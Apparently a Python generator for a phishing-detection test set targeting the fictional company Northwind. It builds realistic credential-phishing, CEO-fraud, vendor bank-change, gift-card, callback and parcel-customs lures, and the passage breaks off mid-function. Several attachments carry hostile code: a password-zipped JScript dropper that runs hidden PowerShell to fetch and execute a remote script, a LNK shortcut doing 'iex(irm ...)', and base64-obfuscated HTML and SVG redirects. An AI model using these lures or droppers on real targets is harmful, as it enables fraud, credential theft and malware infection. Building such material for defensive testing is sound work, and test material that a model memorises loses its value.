# ruff: noqa: E501
"""Phishing and fraud for northwind.example (blind set 2), as attackers wrote it in 2024-2026.
Every domain below that is not a real service's is invented; none is a live site."""

from __future__ import annotations

import base64

from b2_common import (
    build,
    exe_bytes,
    iso_bytes,
    lnk,
    pdf_text,
    png_logo,
    qr_png,
    rcv,
    svg_redirect,
    when,
    xlsx,
    zip_of,
)

PRIYA_B64 = base64.b64encode(b"priya.natarajan@northwind.example").decode()


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def p01_okta_lookalike() -> None:
    d = when(11, 24, "07:41:12")
    url = "https://northwind-okta.com/app/office365/exk1fx9q2vLm7sT0d697/sso/saml?fromURI=%2Fenduser%2Fsettings&login_hint=priya.natarajan"
    build("phish/01_okta_lookalike_reverify.eml", frm="Northwind IT via Okta <noreply@northwind-okta.com>",
          subject="Action required: re-verify Okta Verify before 26 Nov (device migration)", date=d,
          msgid="<20261124074112.5d2c1e0f@northwind-okta.com>",
          received=[rcv("mail.northwind-okta.com", "203.0.113.58", d, "4RkN1x3Bq7z", helo="northwind-okta.com")], dkim_domain="northwind-okta.com",
          extra=[("MIME-Version", "1.0")],
          text="Hi Priya,\n\nAs part of the migration to the new Okta Identity Engine, all users must re-verify their Okta Verify enrollment "
               "by Wednesday 26 November. Accounts that are not re-verified will be suspended from Microsoft 365, Salesforce and Workday.\n\n"
               f"Re-verify now: {url}\n\nThis takes less than one minute. Have your phone ready to approve the push.\n\nNorthwind IT Service Desk\n",
          html="<html><body style=\"font-family:Arial,sans-serif\"><div style=\"border-top:4px solid #00297a;padding:16px;max-width:560px\">"
               "<img src=\"https://ok12static.oktacdn.com/fs/bco/1/fs0a1b2c3d4e5f6g7h8\" alt=\"Northwind\" height=\"32\">"
               "<p>Hi Priya,</p><p>As part of the migration to the new <b>Okta Identity Engine</b>, all users must re-verify their Okta Verify "
               "enrollment by <b>Wednesday 26 November</b>. Accounts that are not re-verified will be suspended from Microsoft 365, Salesforce and Workday.</p>"
               f"<p><a href=\"{url}\" style=\"background:#1662dd;color:#fff;padding:10px 20px;text-decoration:none;border-radius:4px\">Re-verify Okta Verify</a></p>"
               "<p style=\"font-size:12px;color:#666\">This takes less than one minute. Have your phone ready to approve the push.<br>"
               "Powered by Okta · Northwind IT Service Desk</p></div></body></html>")


def p02_aitm_turnstile() -> None:
    d = when(11, 25, "13:18:40")
    url = "https://docs-secure-review.top/Ks9wQ/?cf_chl=tk_4f1c2d3e#" + PRIYA_B64
    build("phish/02_aitm_turnstile_top.eml", frm="SharePoint Online <no-reply@sp-notify-docs.online>",
          subject="Hannah Oyelaran shared \"FY27 Budget - Final v3.xlsx\" with you", date=d,
          msgid="<2d91f0a8-44b7-4e2c-9f31-a6b0c2d8e417@sp-notify-docs.online>",
          received=[rcv("vps-4417.sp-notify-docs.online", "185.225.68.214", d, "4RkV8m1Tc2z")], dkim_domain="sp-notify-docs.online",
          extra=[("MIME-Version", "1.0")],
          html="<html><body style=\"font-family:Segoe UI,sans-serif\"><table width=\"520\"><tr><td>"
               "<p style=\"font-size:21px\">Hannah Oyelaran shared a file with you</p>"
               "<p><img src=\"https://res-1.cdn.office.net/files/fabric-cdn-prod_20230815.002/assets/item-types/48/xlsx.png\" width=\"24\"> FY27 Budget - Final v3.xlsx</p>"
               "<p style=\"color:#605e5c\">\"Priya - final numbers before the board pack. Please review the EMEA tab today.\"</p>"
               f"<p><a href=\"{url}\" style=\"background:#0078d4;color:#fff;padding:8px 18px;text-decoration:none\">Open</a></p>"
               "<p style=\"font-size:11px;color:#a19f9d\">This link will work for people in Northwind. Microsoft respects your privacy.</p>"
               "</td></tr></table></body></html>")


def p03_supplier_shared_excel() -> None:
    d = when(11, 26, "10:02:55")
    url = "https://brightwatersupply-my.sharepoint-files.net/:x:/g/personal/declan_farrelly/EhQ2v9Lk0mZx3Tn?e=4Rk7Wq"
    build("phish/03_compromised_supplier_onedrive.eml", frm="Declan Farrelly <declan.farrelly@brightwater-supply.example>",
          subject="Brightwater Industrial Supply - Remittance & Statement Nov 2026", date=d,
          msgid="<DB9PR07MB8211E7F0A1B2C3D4E5F6A7B8C9D0@DB9PR07MB8211.eurprd07.prod.outlook.com>",
          received=[rcv("mail-am6eur05on2102.outbound.protection.outlook.com", "40.107.22.102", d, "4RkW0p6Yd1z")],
          dkim_domain="brightwater-supply.example", extra=[("MIME-Version", "1.0")],
          text="Hi,\n\nDeclan Farrelly has shared a OneDrive file with you.\n\nStatement_Northwind_Nov2026.xlsx\n\n"
               f"Open: {url}\n\nPlease review the attached statement and confirm the open items before our year-end.\n\n"
               "Kind regards,\nDeclan\n\nDeclan Farrelly | Account Manager\nBrightwater Industrial Supply Ltd\nT +353 1 555 0142\n")


def p04_fake_docusign() -> None:
    d = when(11, 20, "16:44:03")
    url = "https://docusign-envelopes.net/Signing/EmailStart.aspx?a=0e7f1a92-3b4c-4d5e-8f60-718293a4b5c6&acct=nw&er=" + PRIYA_B64
    build("phish/04_fake_docusign_completed.eml", frm="DocuSign via Hannah Oyelaran <dse@docusign-envelopes.net>",
          subject="Completed: Please DocuSign: Northwind_Salary_Adjustment_2027.pdf", date=d,
          msgid="<7c1e0f2a3b4d5e6f@docusign-envelopes.net>",
          received=[rcv("smtp.docusign-envelopes.net", "45.88.97.130", d, "4RhX2w9Pb3z")], dkim_domain="docusign-envelopes.net",
          extra=[("MIME-Version", "1.0")],
          html="<html><body style=\"font-family:Helvetica,Arial,sans-serif;background:#eaeaea\"><table width=\"600\" align=\"center\" style=\"background:#fff\"><tr><td style=\"padding:24px\">"
               "<div style=\"background:#1e4ca1;color:#fff;padding:28px;text-align:center\"><p style=\"font-size:16px\">Hannah Oyelaran sent you a document to review and sign.</p>"
               f"<p><a href=\"{url}\" style=\"background:#ffc423;color:#333;padding:10px 24px;text-decoration:none;font-weight:bold\">REVIEW DOCUMENT</a></p></div>"
               "<p>Northwind_Salary_Adjustment_2027.pdf<br>2 pages · All parties have completed, your signature is required to finalise.</p>"
               "<p style=\"font-size:11px;color:#666\">Do Not Share This Email. This email contains a secure link to DocuSign. "
               "About DocuSign: Sign documents electronically in just minutes. It's safe, secure, and legally binding.</p></td></tr></table></body></html>")


def p05_m365_suspended() -> None:
    d = when(11, 13, "05:22:31")
    url = "https://microsoft365-billingcentre.com/account/billing/payment?tenant=northwind&ref=INV-M365-8820413"
    build("phish/05_m365_subscription_suspended.eml", frm="Microsoft 365 <billing@microsoft365-billingcentre.com>",
          subject="Your Microsoft 365 subscription has been suspended – update payment to avoid data loss", date=d,
          msgid="<20261113052231.92b1@microsoft365-billingcentre.com>",
          received=[rcv("mx2.microsoft365-billingcentre.com", "198.51.100.117", d, "4RfA7c1Kx9z")], dkim_domain="microsoft365-billingcentre.com",
          extra=[("MIME-Version", "1.0")],
          text="Microsoft 365\n\nWe couldn't process the payment for your Microsoft 365 Business Standard subscription (48 licences).\n\n"
               "Your subscription is now suspended. Users will lose access to Outlook, Teams and OneDrive in 48 hours, and your "
               "organisation's data will be deleted after 30 days.\n\n"
               f"Update your payment method: {url}\n\nInvoice: INV-M365-8820413\nAmount due: €6,048.00\n\n"
               "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n")


def p06_benefits_qr() -> None:
    d = when(11, 4, "09:15:00")
    qr = qr_png("https://benefits-northwind.hr-enroll.xyz/oe2027/login?u=" + PRIYA_B64, scale=5)
    build("phish/06_open_enrollment_qr.eml", frm="Northwind HR Benefits <benefits@hr-enroll.xyz>",
          subject="2027 Open Enrollment closes Friday – confirm your benefits elections", date=d,
          msgid="<oe2027.4417.20261104091500@hr-enroll.xyz>",
          received=[rcv("mail.hr-enroll.xyz", "193.29.13.77", d, "4Rc4tV0Lm6z")], dkim_domain="hr-enroll.xyz",
          extra=[("MIME-Version", "1.0")],
          text="Dear Priya,\n\nOpen Enrollment for 2027 benefits closes on Friday, 7 November. Employees who do not confirm their elections "
               "will be defaulted to the basic plan with no dental or vision cover.\n\nScan the QR code with your phone camera to review your elections. "
               "For security, the portal is only available on mobile.\n\nNorthwind People Team\n",
          html="<html><body style=\"font-family:Calibri,Arial,sans-serif\"><h2 style=\"color:#2b579a\">2027 Open Enrollment</h2>"
               "<p>Dear Priya,</p><p>Open Enrollment for 2027 benefits closes on <b>Friday, 7 November</b>. Employees who do not confirm their "
               "elections will be defaulted to the basic plan with no dental or vision cover.</p>"
               "<p>Scan the QR code with your phone camera to review your elections. For security, the portal is only available on mobile.</p>"
               "<p><img src=\"cid:oe2027qr\" alt=\"\" width=\"190\"></p><p>Northwind People Team</p></body></html>",
          related=[(qr, "oe2027qr", "image/png")])


def p07_voicemail_htm() -> None:
    d = when(11, 18, "11:07:29")
    target = b64("https://voicemail-nw.cloud-msg-portal.online/vm/play?id=VM-3F9C1")
    htm = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Voice Message</title></head><body>\n"
           "<p style=\"font-family:Segoe UI\">Loading your voice message (00:47)...</p>\n"
           f"<script>var u=atob(\"{target}\");var m=\"{PRIYA_B64}\";window.location.replace(u+\"&e=\"+m);</script>\n"
           "</body></html>\n").encode()
    build("phish/07_voicemail_htm_attachment.eml", frm="Voice Mail <vm-notification@ringcentral-voice.info>",
          subject="Voicemail from +44 20 7946 0321 (00:47) – Wed 18 Nov 11:06", date=d,
          msgid="<VM3F9C1.20261118110729@ringcentral-voice.info>",
          received=[rcv("srv1.ringcentral-voice.info", "94.156.64.19", d, "4RgP1a5Nz8z")], dkim_domain="ringcentral-voice.info",
          extra=[("MIME-Version", "1.0")],
          text="You have a new voice message.\n\nFrom: +44 20 7946 0321\nTo: Priya Natarajan (ext. 2290)\nDuration: 00:47\nReceived: Wed 18 Nov 2026 11:06\n\n"
               "Open the attached audio message to listen. Sign in with your Microsoft 365 credentials if prompted.\n",
          attachments=[(htm, "text", "html", "VM_Play_0047_priya.natarajan.htm")])


def p08_svg_redirect() -> None:
    d = when(11, 21, "08:33:16")
    svg = svg_redirect(b64("https://secure-pay-remit.shop/adv/?inv=NW-77120"), "Remittance Advice - PAID - Open in browser")
    build("phish/08_svg_remittance.eml", frm="Accounts Payable <ap@kalinowski-logistics.example>",
          subject="Payment Remittance Advice – EFT 77120 – Northwind", date=d,
          msgid="<cb7a1e2f9d3c4b5a8e6f0d1c2b3a4f5e@kalinowski-logistics.example>",
          received=[rcv("mail.kalinowski-logistics.example", "192.0.2.88", d, "4RjC3b7Mk0z")], dkim_domain="kalinowski-logistics.example",
          extra=[("MIME-Version", "1.0")],
          text="Hello,\n\nPlease find attached remittance advice for EFT 77120 (EUR 24,918.40) paid today to Northwind.\n"
               "Kindly open the attachment in your browser to view the payment details.\n\nRegards,\nAccounts Payable\nKalinowski Logistics Sp. z o.o.\n",
          attachments=[(svg, "image", "svg+xml", "Remittance_EFT77120.svg")])


def p09_zip_js_password() -> None:
    d = when(11, 12, "14:51:07")
    js = (b"// Northwind invoice viewer\r\nvar a=['WScript.Shell','Run','cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgaXdyIGh0dHBzOi8vY2RuLWludm9pY2UtYXNzZXRzLnh5ei9wL2QudHh0IHwgaWV4'];\r\n"
          b"function b(s){var x=new ActiveXObject('MSXML2.DOMDocument').createElement('t');x.dataType='bin.base64';x.text=s;"
          b"var st=new ActiveXObject('ADODB.Stream');st.Type=1;st.Open();st.Write(x.nodeTypedValue);st.Position=0;st.Type=2;st.Charset='us-ascii';return st.ReadText();}\r\n"
          b"new ActiveXObject(a[0])[a[1]](b(a[2]),0,false);\r\n")
    z = zip_of([("Invoice_INV-88213_Northwind.js", js)], password="INV2026")
    build("phish/09_password_zip_js.eml", frm="Oskar Brandt <oskar.brandt@drukarnia-wislak.example>",
          subject="RE: RE: overdue invoice INV-88213", date=d,
          msgid="<5f3e1c0a2b4d6e8f@drukarnia-wislak.example>",
          received=[rcv("host-77-252-14-9.static.example", "203.0.113.9", d, "4RfQ6n3Wp2z", helo="drukarnia-wislak.example")],
          extra=[("In-Reply-To", "<a1b2c3d4e5f6@drukarnia-wislak.example>"), ("MIME-Version", "1.0")],
          text="Hello,\n\nas requested, the corrected invoice is attached. The file is protected because it contains bank details.\n\n"
               "Password: INV2026\n\nPlease confirm payment date.\n\nBest regards\nOskar Brandt\n\n"
               "> On 10 Nov 2026, Priya Natarajan wrote:\n> Could you resend the invoice with the PO number on it?\n",
          attachments=[(z, "application", "zip", "INV-88213.zip")])


def p10_img_attachment() -> None:
    d = when(11, 19, "09:48:22")
    img = iso_bytes("PURCHASE_ORDER_NW2611.exe")
    build("phish/10_img_purchase_order.eml", frm="Procurement <purchasing@anatolia-tekstil.example>",
          subject="New Purchase Order NW-2611 / urgent quotation", date=d,
          msgid="<20261119094822.PO2611@anatolia-tekstil.example>",
          received=[rcv("mail.anatolia-tekstil.example", "192.0.2.140", d, "4RhH5k2Tf9z")],
          extra=[("Reply-To", "purchasing.anatolia@proton.me"), ("MIME-Version", "1.0")],
          text="Dear Sir/Madam,\n\nGood day. Please find attached our new purchase order NW-2611 and quote us your best price and delivery time.\n\n"
               "Kindly confirm receipt.\n\nBest Regards\nMehmet Yilmaz\nPurchasing Manager\n",
          attachments=[(img, "application", "octet-stream", "PO_NW-2611.img")])


def p11_lnk_in_zip() -> None:
    d = when(11, 10, "15:30:44")
    shortcut = lnk(r"..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                   "-nop -w hidden -c \"$u='https://cdn-shared-docs.info/a/rt.ps1';iex(irm $u)\"",
                   r"%ProgramFiles(x86)%\Microsoft\Edge\Application\msedge.exe")
    z = zip_of([("Payment_Details_Nov2026.pdf.lnk", shortcut)])
    build("phish/11_lnk_in_zip.eml", frm="Lena Hoffmann <l.hoffmann@hoffmann-steuerberatung.example>",
          subject="Zahlungsdetails November / Payment details", date=d,
          msgid="<3a8d1f0e2c4b@hoffmann-steuerberatung.example>",
          received=[rcv("mout.hoffmann-steuerberatung.example", "192.0.2.210", d, "4RdZ0q7Vh3z")],
          extra=[("MIME-Version", "1.0")],
          text="Sehr geehrte Damen und Herren,\n\nanbei die Zahlungsdetails für November. Bitte prüfen Sie die Angaben.\n\n"
               "Please find the payment details for November attached.\n\nMit freundlichen Grüßen\nLena Hoffmann\n",
          attachments=[(z, "application", "zip", "Payment_Details_Nov2026.zip")])


def p12_ceo_wire_gmail() -> None:
    d = when(11, 27, "09:12:08", "+0000")
    build("phish/12_ceo_wire_gmail.eml", frm="Marcus Ellery <marcus.ellery.northwind@gmail.com>",
          subject="Confidential - acquisition payment", date=d,
          msgid="<CAPz8r1xQ7vL2mZ3kT9sW4nN0yD6fG5jA1cE8uB@mail.gmail.com>",
          received=[rcv("mail-wm1-f54.google.com", "209.85.128.54", d, "4RkY1p3Nq8z", helo="mail-wm1-f54.google.com")],
          dkim_domain="gmail.com", extra=[("MIME-Version", "1.0")],
          text="Priya,\n\nAre you at your desk? I'm in back-to-back meetings with the lawyers on a confidential acquisition and can only use my personal "
               "email today. I need you to process an initial payment of EUR 186,400 to the escrow agent before 1pm. Do not discuss this with "
               "anyone else in the office until the announcement, including Hannah, as the NDA is strict.\n\nReply here and I'll send the bank details.\n\n"
               "Marcus\nSent from my iPhone\n")


def p13_cfo_vendor_bank_change() -> None:
    d = when(11, 24, "16:58:37", "+0000")
    build("phish/13_cfo_vendor_bank_change_replyto.eml", frm="Hannah Oyelaran <hannah.oyelaran@northwind.example>",
          subject="Kestrel Logistics - new bank details effective this run", date=d,
          msgid="<20261124165837.4d1e7f@northwind.example>",
          received=[rcv("vmi1877203.contaboserver.net", "161.97.77.203", d, "4RkS9w2Gd5z", helo="northwind.example")],
          extra=[("Reply-To", "Hannah Oyelaran <hannah.oyelaran@northwlnd.com>"), ("MIME-Version", "1.0")],
          text="Hi Priya,\n\nKestrel Logistics have moved their banking to Wise after their audit. I've verified this with Camille on the phone this "
               "morning, so no need to call them. Please update the vendor master before tomorrow's payment run and pay the two open invoices "
               "(KL-26-3341 and KL-26-3367, EUR 48,210.55 total) to the new account:\n\n"
               "Account name: Kestrel Logistics BV\nIBAN: BE71 9671 4417 2903\nBIC: TRWIBEB1XXX\n\n"
               "Let me know once done. I'm travelling so email is best.\n\nThanks,\nHannah\n\nHannah Oyelaran\nChief Financial Officer, Northwind\n")


def p14_vendor_invoice_lookalike() -> None:
    d = when(11, 25, "12:40:19", "+0000")
    inv = pdf_text(["Brightwater Industrial Supply Ltd", "Unit 7, Greenogue Business Park, Rathcoole, Co. Dublin", "",
                    "INVOICE BW-INV-26-5530        Date: 25/11/2026", "Bill to: Northwind Trading Ltd", "PO: Q-26-1187",
                    "Euro pallet, heat treated   400 x 11.20 = 4,480.00", "Stretch wrap 500mm x 300m   120 x 14.85 = 1,782.00",
                    "Packing tape 48mm           600 x 1.92  = 1,152.00", "Subtotal 7,414.00  VAT 23% 1,705.22  TOTAL EUR 9,119.22", "",
                    "NEW BANK DETAILS: Brightwater Industrial Supply Ltd", "IBAN: LT41 3250 0441 7290 3155   BIC: REVOLT21",
                    "Payment due: 30/11/2026"], title="BW-INV-26-5530", producer="Microsoft: Print To PDF")
    build("phish/14_vendor_invoice_lookalike.eml", frm="Declan Farrelly <declan.farrelly@brightwater-supplies.com>",
          subject="RE: Pallets + wrap for Q1 - quotation Q-26-1187", date=d,
          msgid="<DB9PR07MB8211F0E1D2C3B4A5968778695A4B@DB9PR07MB8211.eurprd07.prod.outlook.com>",
          received=[rcv("mail-vi1eur04on2121.outbound.protection.outlook.com", "40.107.8.121", d, "4RkU4y0Fs6z")],
          dkim_domain="brightwatersupplies.onmicrosoft.com",
          extra=[("In-Reply-To", "<DB9PR07MB8211C3E1F4A2B9D0E6F1A2B3C4D5@DB9PR07MB8211.eurprd07.prod.outlook.com>"), ("MIME-Version", "1.0")],
          text="Hi Priya,\n\nThanks for the PO. Invoice attached. Please note that due to an ongoing audit our usual account is temporarily "
               "unavailable, so kindly make this payment to our new account shown on the invoice. We can deliver first week of January once "
               "payment is received by 30 Nov.\n\nKind regards,\nDeclan\n\nDeclan Farrelly | Account Manager\nBrightwater Industrial Supply Ltd\nT +353 1 555 0142\n",
          attachments=[(inv, "application", "pdf", "BW-INV-26-5530.pdf")])


def p15_payroll_w2_request() -> None:
    d = when(11, 17, "08:03:50", "-0500")
    build("phish/15_w2_payroll_request.eml", frm="Marcus Ellery <m.ellery@northwind-hq.com>",
          subject="W-2 forms request", date=d,
          msgid="<20261117080350.c91e2d@northwind-hq.com>",
          received=[rcv("smtp.northwind-hq.com", "198.51.100.45", d, "4Rg2Lp7Vb1z")], dkim_domain="northwind-hq.com",
          extra=[("MIME-Version", "1.0")],
          text="Priya,\n\nI need the 2025 W-2s and the current payroll register (names, SSNs, salaries, home addresses) for all US employees "
               "in PDF for a review with the auditors this afternoon. Please send them to me directly, not through the shared drive, as "
               "this is confidential.\n\nThanks\nMarcus Ellery\nCEO\n")


def p16_gift_cards() -> None:
    d = when(11, 26, "10:21:02", "+0000")
    build("phish/16_ceo_gift_cards.eml", frm="Marcus Ellery <marcusellery.ceo@outlook.com>",
          subject="Quick favour", date=d,
          msgid="<AS2P194MB2217A1C2E3F4B5D6E7F8091A2B3C@AS2P194MB2217.EURP194.PROD.OUTLOOK.COM>",
          received=[rcv("mail-am0eur02olkn2088.outbound.protection.outlook.com", "40.92.49.88", d, "4RkQ7t0Hc4z")],
          dkim_domain="outlook.com", extra=[("MIME-Version", "1.0")],
          text="Hi Priya,\n\nAre you available? I need a quick favour. I want to surprise some of the warehouse team with gifts for their hard work "
               "this year and need you to purchase 8 Apple gift cards of €200 each. I'm stuck in a board meeting and can't do it myself.\n\n"
               "Once you have them, scratch the back and send me pictures of the codes here. I will reimburse you today.\n\n"
               "Keep it a surprise.\n\nMarcus\n")


def p17_helpdesk_callback() -> None:
    d = when(11, 23, "08:47:15")
    build("phish/17_it_mfa_reset_callback.eml", frm="IT Service Desk <servicedesk@northwind-support.net>",
          subject="[INC0448812] MFA reset scheduled for your account – call to confirm", date=d,
          msgid="<INC0448812.20261123084715@northwind-support.net>",
          received=[rcv("mail.northwind-support.net", "203.0.113.77", d, "4Rk11d6Nw3z")], dkim_domain="northwind-support.net",
          extra=[("MIME-Version", "1.0")],
          text="Hello Priya,\n\nA reset of your multi-factor authentication was requested for your account as part of the Okta migration "
               "(ticket INC0448812). If you do not confirm, your MFA methods will be removed today at 17:00 and you will be locked out.\n\n"
               "To confirm or cancel, call the Service Desk on +44 20 3807 4412 (option 2) and quote ticket INC0448812. "
               "An engineer will verify your identity and walk you through re-enrolment.\n\n"
               "Please do not reply to this email.\n\nNorthwind IT Service Desk\n")


def p18_geek_squad_text() -> None:
    d = when(11, 21, "03:12:47", "-0800")
    build("phish/18_geek_squad_invoice_text.eml", frm="Geek Squad Billing <jennifermcalister4481@gmail.com>",
          subject="Your Order Confirmation #GS-7720-31948 – Auto-Renewal Successful", date=d,
          msgid="<CAKx2w9sT1pL0mZ3kR8vQ4nN7yD6fG5jA2cE9uA@mail.gmail.com>",
          received=[rcv("mail-pj1-f53.google.com", "209.85.216.53", d, "4Rj0Hc5Tq8z", helo="mail-pj1-f53.google.com")],
          dkim_domain="gmail.com", extra=[("MIME-Version", "1.0")],
          text="Dear Customer,\n\nThank you for renewing your Geek Squad Total Tech Protection plan. Your subscription has been renewed for another year "
               "and the amount will appear on your statement within 24 hours.\n\nInvoice Number: GS-7720-31948\nProduct: Total Tech Protection (3 devices)\n"
               "Term: 1 Year\nAmount: $399.99\nPayment: Auto-debit\n\nIf you did not authorize this renewal or wish to cancel and receive a full refund, "
               "call our billing department within 24 hours at +1 (808) 556-0173.\n\nRegards,\nGeek Squad Billing Team\n")


def p19_norton_pdf() -> None:
    d = when(11, 16, "22:03:19", "-0800")
    inv = pdf_text(["NortonLifeLock - Norton 360 Deluxe", "INVOICE", "", "Invoice No: NL-4417-90315        Date: 16/11/2026",
                    "Customer ID: CUS-88213-447", "Product: Norton 360 Deluxe with LifeLock - 5 Devices", "Subscription term: 3 Years",
                    "Payment method: Auto-debit", "Total amount: USD 489.99", "",
                    "Your subscription has been renewed automatically.",
                    "If you did not authorise this charge, or to cancel and get a refund,",
                    "contact our billing support within 24 hours: +1 (888) 430-6172", "",
                    "Thank you for choosing Norton."], title="Invoice NL-4417-90315", producer="Microsoft Word")
    build("phish/19_norton_invoice_pdf.eml", frm="Norton Billing <noreply.billing.norton4417@gmail.com>",
          subject="Invoice NL-4417-90315 for your recent renewal", date=d,
          msgid="<CAJq7x1sW2pL9mZ0kR3vT8nN4yB6fG5jD2cE1uF@mail.gmail.com>",
          received=[rcv("mail-oi1-f175.google.com", "209.85.167.175", d, "4RfX9m2Kt4z", helo="mail-oi1-f175.google.com")],
          dkim_domain="gmail.com", extra=[("MIME-Version", "1.0")],
          text="Hello,\n\nPlease find attached the invoice for your recent order.\n\nThank you\n",
          attachments=[(inv, "application", "pdf", "Invoice_NL-4417-90315.pdf")])


def _customs(name: str, *, frm: str, subject: str, date: str, lang: str, text: str, host: str, ip: str) -> None:
    domain = frm.split("@")[1].rstrip(">")
    build(name, frm=frm, subject=subject, date=date, msgid=f"<{name.split('/')[1][:2]}{date[5:7]}.{date[17:25].replace(':', '')}.7712@{domain}>",
          received=[rcv(host, ip, date, "4Rk" + name.split("/")[1][:2] + "Xq1z")], dkim_domain=domain,
          extra=[("MIME-Version", "1.0"), ("Content-Language", lang)], text=text)


def p20_dhl_de() -> None:
    _customs("phish/20_dhl_zoll_de.eml", frm="DHL Paket <service@dhl-zollabwicklung.info>",
             subject="Ihre Sendung JJD0004417290315 wird zurückgehalten: Einfuhrabgaben offen (2,99 €)",
             date=when(11, 24, "06:14:32", "+0100"), lang="de", host="srv.dhl-zollabwicklung.info", ip="45.141.215.30",
             text="Sehr geehrte Kundin, sehr geehrter Kunde,\n\nIhre Sendung JJD0004417290315 ist im Paketzentrum eingetroffen. "
                  "Für die Zustellung sind noch Einfuhrabgaben in Höhe von 2,99 € zu entrichten.\n\n"
                  "Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt:\n"
                  "https://dhl-zollabwicklung.info/de/sendung/JJD0004417290315/zahlung\n\nMit freundlichen Grüßen\nIhr DHL Paket Team\n")


def p21_ups_fr() -> None:
    _customs("phish/21_ups_douane_fr.eml", frm="UPS France <noreply@ups-livraison-fr.com>",
             subject="UPS : droits de douane à régler pour votre colis 1Z4417X90315682290",
             date=when(11, 19, "08:41:07", "+0100"), lang="fr", host="mail.ups-livraison-fr.com", ip="185.244.25.41",
             text="Bonjour,\n\nVotre colis 1Z4417X90315682290 est retenu au centre de dédouanement de Roissy. "
                  "Des frais de douane de 1,98 EUR doivent être réglés avant la livraison.\n\n"
                  "Payer les frais : https://ups-livraison-fr.com/suivi/1Z4417X90315682290/paiement\n\n"
                  "Sans règlement sous 72 heures, le colis sera retourné à l'expéditeur.\n\nCordialement,\nService Client UPS\n")


def p22_dhl_es() -> None:
    _customs("phish/22_dhl_aduana_es.eml", frm="DHL Express <avisos@dhl-entregas.top>",
             subject="Aviso: su paquete está retenido en aduanas",
             date=when(11, 20, "10:05:51", "+0100"), lang="es", host="mx.dhl-entregas.top", ip="91.92.242.18",
             text="Estimado cliente:\n\nSu envío n.º 4417290315 no ha podido ser entregado porque los gastos de aduana (1,99 €) no han sido abonados.\n\n"
                  "Para programar una nueva entrega, realice el pago aquí: https://dhl-entregas.top/es/pago?envio=4417290315\n\n"
                  "Si no se recibe el pago en 48 horas, el paquete será devuelto.\n\nAtentamente,\nDHL Express España\n")


def p23_ups_it() -> None:
    _customs("phish/23_ups_dogana_it.eml", frm="UPS Italia <notifiche@ups-spedizioni-it.online>",
             subject="Il tuo pacco è in giacenza: pagamento dazi doganali richiesto",
             date=when(11, 21, "09:27:14", "+0100"), lang="it", host="mail.ups-spedizioni-it.online", ip="194.26.192.64",
             text="Gentile cliente,\n\nil tuo pacco 1Z99X4417290315 è in giacenza presso il nostro deposito di Milano Linate. "
                  "Per procedere con la consegna è necessario il pagamento dei dazi doganali di 2,49 €.\n\n"
                  "Paga ora: https://ups-spedizioni-it.online/it/tracking/1Z99X4417290315?pay=1\n\n"
                  "In assenza di pagamento entro 3 giorni il pacco verrà restituito al mittente.\n\nCordiali saluti,\nUPS Italia\n")


def p24_dhl_nl() -> None:
    _customs("phish/24_dhl_douane_nl.eml", frm="DHL eCommerce <klantenservice@dhlparcel-nl.xyz>",
             subject="Actie vereist: invoerrechten voor zending 3SDHL44172903",
             date=when(11, 22, "12:50:03", "+0100"), lang="nl", host="smtp.dhlparcel-nl.xyz", ip="193.233.21.90",
             text="Beste klant,\n\nUw pakket 3SDHL44172903 is aangekomen in Nederland, maar er zijn nog invoerrechten verschuldigd (€ 1,95).\n\n"
                  "Betaal via iDEAL om de bezorging in te plannen: https://dhlparcel-nl.xyz/betalen/3SDHL44172903\n\n"
                  "Na 2 dagen wordt het pakket teruggestuurd naar de afzender.\n\nMet vriendelijke groet,\nDHL Klantenservice\n")


def p25_dhl_pl() -> None:
    _customs("phish/25_dhl_clo_pl.eml", frm="DHL Polska <powiadomienia@dhl-przesylka.pl.co>",
             subject="Twoja przesyłka oczekuje na opłatę celną",
             date=when(11, 23, "07:33:48", "+0100"), lang="pl", host="mail.dhl-przesylka.pl.co", ip="5.42.92.210",
             text="Szanowny Kliencie,\n\nTwoja przesyłka nr 4417290315 oczekuje w sortowni. Przed doręczeniem należy uiścić opłatę celną w wysokości 5,99 zł.\n\n"
                  "Opłać przez BLIK: https://dhl-przesylka.pl.co/oplata/4417290315\n\n"
                  "Brak płatności w ciągu 48 godzin spowoduje zwrot przesyłki do nadawcy.\n\nPozdrawiamy,\nZespół DHL Parcel Polska\n")


def p26_ups_pt() -> None:
    _customs("phish/26_ups_alfandega_pt.eml", frm="UPS Portugal <apoio@ups-encomendas.shop>",
             subject="A sua encomenda aguarda pagamento de taxas alfandegárias",
             date=when(11, 24, "11:08:26", "+0000"), lang="pt", host="mail.ups-encomendas.shop", ip="147.45.47.101",
             text="Caro cliente,\n\nA sua encomenda 1Z4417X903156 encontra-se retida na alfândega. Para concluir a entrega, é necessário pagar "
                  "as taxas aduaneiras de 1,89 EUR.\n\nPagar agora (MB WAY ou cartão): https://ups-encomendas.shop/pt/pagamento/1Z4417X903156\n\n"
                  "Caso o pagamento não seja efetuado em 48 horas, a encomenda será devolvida ao remetente.\n\nCom os melhores cumprimentos,\nUPS Portugal\n")


def p27_hmrc_refund() -> None:
    d = when(11, 11, "18:22:05")
    url = "https://hmrc-taxrefund.gov-uk.online/claim/?ref=UTR4417290315"
    build("phish/27_hmrc_tax_refund.eml", frm="HM Revenue & Customs <refunds@hmrc-notice.co.uk>",
          subject="Tax refund notification: you are eligible to receive £428.70", date=d,
          msgid="<20261111182205.UTR4417@hmrc-notice.co.uk>",
          received=[rcv("mail.hmrc-notice.co.uk", "185.196.8.77", d, "4RdY3p1Kv5z")], dkim_domain="hmrc-notice.co.uk",
          extra=[("MIME-Version", "1.0")],
          text="HM Revenue & Customs\n\nDear Taxpayer,\n\nAfter the last annual calculation of your fiscal activity we have determined that you are eligible "
               "to receive a tax refund of £428.70.\n\nReference: UTR4417290315\n\nPlease submit the tax refund request and allow us 3-5 working days to process it.\n\n"
               f"Claim your refund: {url}\n\nA refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.\n\n"
               "HM Revenue & Customs\n")


def p28_elster() -> None:
    d = when(11, 9, "09:40:17", "+0100")
    url = "https://elster-erstattung.de.com/login/steuer?id=44172903&r=2025"
    build("phish/28_elster_erstattung.eml", frm="ELSTER Finanzamt <benachrichtigung@elster-portal-de.com>",
